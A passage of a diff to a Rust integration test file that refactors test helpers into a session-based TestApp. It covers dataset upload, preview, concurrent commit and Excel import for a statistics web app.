             assert_eq!(preview.select_texts("#regions-count"), vec!["31"], "{name}");
             staged += 1;
         } else {
@@ -817,7 +634,7 @@ async fn every_real_file_uploads_through_http() {
             assert!(res.body.contains(&name), "{name}: the error names the file");
             rejected += 1;
         }
-        assert_eq!(snapshot(app.dir.path()), before, "{name} changed the store");
+        assert_eq!(app.stored_files(), before, "{name} changed the store");
     }
     assert_eq!(
         staged,
@@ -842,7 +659,7 @@ async fn every_real_file_uploads_through_http() {
         .map(|f| std::fs::read(shared_data().join("cn-nbs-exports").join(f)).unwrap())
         .collect();
     let mut parts = vec![
-        Part::Field("csrf", &csrf),
+        Part::Field("csrf", &session.csrf),
         Part::Field("target", "existing"),
         Part::Field("existing_id", "cn-provinces"),
     ];
@@ -850,17 +667,17 @@ async fn every_real_file_uploads_through_http() {
         parts.push(Part::File("files", name, bytes));
     }
     let res = app
-        .post_multipart("/datasets/new?lang=zh", Some(&cookie), multipart(&parts))
+        .post_multipart("/datasets/new?lang=zh", Some(&session), &parts)
         .await;
     assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-    let preview = app.get(&location(&res), Some(&cookie)).await;
+    let preview = app.get_as(&location(&res), Some(&session)).await;
     assert_eq!(
         preview.count("fieldset.mapping"),
         4,
         "four new indicators to map"
     );
     let commit_url = preview.select_attrs("form#commit", "action")[0].clone();
-    let mut form: Vec<(String, String)> = vec![("csrf".into(), csrf.clone())];
+    let mut form: Vec<(String, String)> = vec![("csrf".into(), session.csrf.clone())];
     for (i, dim) in ["laborers", "laborers", "tools", "laborers"]
         .iter()
         .enumerate()
@@ -871,19 +688,17 @@ async fn every_real_file_uploads_through_http() {
         form.push((format!("map.{i}.direction"), "+".into()));
     }
     let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
-    let res = app.post_form(&commit_url, Some(&cookie), &pairs).await;
+    let res = app.post_form(&commit_url, Some(&session), &pairs).await;
     assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
     assert!(location(&res).contains("v=2"));
-    let page = app.get(&location(&res), None).await;
+    let page = app.get(&location(&res)).await;
     assert_eq!(page.status, StatusCode::OK);
-    let framework = app
-        .get("/datasets/cn-provinces/2/framework.toml", None)
-        .await;
+    let framework = app.get("/datasets/cn-provinces/2/framework.toml").await;
     for i in 0..4 {
         assert!(framework.body.contains(&format!("id = \"nbs_new_{i}\"")));
     }
-    let v1 = app.get("/datasets/cn-provinces/1/panel.csv", None).await;
-    let v2 = app.get("/datasets/cn-provinces/2/panel.csv", None).await;
+    let v1 = app.get("/datasets/cn-provinces/1/panel.csv").await;
+    let v2 = app.get("/datasets/cn-provinces/2/panel.csv").await;
     assert!(v2.body.lines().count() > v1.body.lines().count());
     assert!(v2.body.contains("65岁及以上人口数(人口抽样调查)"));
     // The exports cover 2006–2024; the version keeps the dataset's 2013–2019.
@@ -896,7 +711,7 @@ async fn every_real_file_uploads_through_http() {
     assert_eq!(years.first(), Some(&"2013"));
     assert_eq!(years.last(), Some(&"2019"));
     let v2_scores = app
-        .get("/methodology?lang=en&dataset=cn-provinces&v=2", None)
+        .get("/methodology?lang=en&dataset=cn-provinces&v=2")
         .await;
     assert!(
         v2_scores.body.contains("rd_intensity"),
@@ -906,30 +721,27 @@ async fn every_real_file_uploads_through_http() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn one_upload_commits_once_even_when_submitted_twice_at_once() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
     let export = std::fs::read(fixture("csv/nbs_export_gbk_crlf.csv")).unwrap();
-    let body = multipart(&[
-        Part::Field("csrf", &csrf),
-        Part::Field("target", "existing"),
-        Part::Field("existing_id", "cn-provinces-recent"),
-        Part::File("files", "export.csv", &export),
-    ]);
     let res = app
-        .post_multipart("/datasets/new?lang=en", Some(&cookie), body)
+        .upload(
+            &session,
+            &existing_dataset("cn-provinces-recent", &[("export.csv", &export)]),
+        )
         .await;
-    let preview = app.get(&location(&res), Some(&cookie)).await;
+    let preview = app.preview(&session, &res).await;
     let url = preview.select_attrs("form#commit", "action")[0].clone();
     let form = [
-        ("csrf", csrf.as_str()),
+        ("csrf", session.csrf.as_str()),
         ("map.0.include", "on"),
         ("map.0.id", "rd_staff"),
         ("map.0.dimension", "laborers"),
         ("map.0.direction", "+"),
     ];
     let (a, b) = tokio::join!(
-        app.post_form(&url, Some(&cookie), &form),
-        app.post_form(&url, Some(&cookie), &form)
+        app.post_form(&url, Some(&session), &form),
+        app.post_form(&url, Some(&session), &form)
     );
     let statuses = [a.status, b.status];
     assert_eq!(
@@ -941,7 +753,7 @@ async fn one_upload_commits_once_even_when_submitted_twice_at_once() {
         "{statuses:?}"
     );
     assert!(statuses.iter().any(|s| s.is_client_error()), "{statuses:?}");
-    let list = app.get("/datasets?lang=en", None).await;
+    let list = app.get("/datasets?lang=en").await;
     assert_eq!(
         list.count("#dataset-cn-provinces-recent table.versions tbody tr"),
         2,
@@ -951,37 +763,72 @@ async fn one_upload_commits_once_even_when_submitted_twice_at_once() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn an_excel_workbook_uploads_like_a_csv() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
-    let mut book = rust_xlsxwriter::Workbook::new();
-    let sheet = book.add_worksheet();
-    for (c, h) in ["region", "year", "indicator", "value"].iter().enumerate() {
-        sheet.write_string(0, c as u16, *h).unwrap();
-    }
-    let mut row = 1;
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
+    let mut cells: Vec<[String; 4]> = Vec::new();
     for region in ["北京市", "上海市", "广东省"] {
         for year in [2021, 2022] {
             for (k, ind) in ["l", "t", "o"].iter().enumerate() {
-                sheet.write_string(row, 0, region).unwrap();
-                sheet.write_number(row, 1, f64::from(year)).unwrap();
-                sheet.write_string(row, 2, *ind).unwrap();
-                sheet
-                    .write_number(row, 3, f64::from(row) + k as f64 * 0.5)
-                    .unwrap();
-                row += 1;
+                let value = (cells.len() + 1) as f64 + k as f64 * 0.5;
+                cells.push([
+                    region.into(),
+                    year.to_string(),
+                    (*ind).into(),
+                    value.to_string(),
+                ]);
             }
         }
     }
-    let bytes = book.save_to_buffer().unwrap();
+    let mut rows: Vec<Vec<&str>> = vec![vec!["region", "year", "indicator", "value"]];
+    rows.extend(cells.iter().map(|c| c.iter().map(String::as_str).collect()));
+    let rows: Vec<&[&str]> = rows.iter().map(Vec::as_slice).collect();
+    let bytes = xlsx(&rows);
     let res = app
-        .upload_new(&cookie, &csrf, "from-excel", &[("data.xlsx", &bytes)])
+        .upload(
+            &session,
+            &new_dataset("from-excel", &[("data.xlsx", &bytes)]),
+        )
         .await;
     assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-    let preview = app.get(&location(&res), Some(&cookie)).await;
+    let preview = app.get_as(&location(&res), Some(&session)).await;
     let cells = preview.select_texts("table#files-table tbody td");
     assert_eq!(cells[0], "spreadsheet");
     assert_eq!(cells[1], "long");
     assert_eq!(preview.select_texts("#region-set"), vec!["cn-provinces"]);
     assert_eq!(preview.select_texts("#regions-count"), vec!["3"]);
     assert_eq!(preview.count("fieldset.mapping"), 3);
+}
+
+/// The whole flow in the user's four steps: sign in, upload, preview, commit — the stored
+/// version holds exactly the uploaded values.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_new_dataset_in_four_steps() {
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
+    let csv = lto_csv(2020..2023, 7);
+    let files = [("p.csv", csv.as_bytes())];
+    let uploaded = app.upload(&session, &new_dataset("four", &files)).await;
+    let preview = app.preview(&session, &uploaded).await;
+    assert_eq!(preview.count("fieldset.mapping"), 3);
+    let before = app.stored_files();
+    let form = lto_mapping();
+    let fields: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
+    let committed = app.commit(&session, &preview, &fields).await;
+    assert_eq!(
+        committed.status,
+        StatusCode::SEE_OTHER,
+        "{}",
+        committed.body
+    );
+    assert_ne!(app.stored_files(), before, "a version was written");
+    let stored = app.get("/datasets/four/1/panel.csv").await.body;
+    // Each (region, year, indicator) with its value, as stored and as uploaded.
+    let values = |t: &str| -> BTreeMap<String, f64> {
+        let split = |l: &str| {
+            l.rsplit_once(',')
+                .map(|(k, v)| (k.to_owned(), v.parse().unwrap()))
+        };
+        t.lines().skip(1).filter_map(split).collect()
+    };
+    assert_eq!(values(&stored), values(&csv));
 }
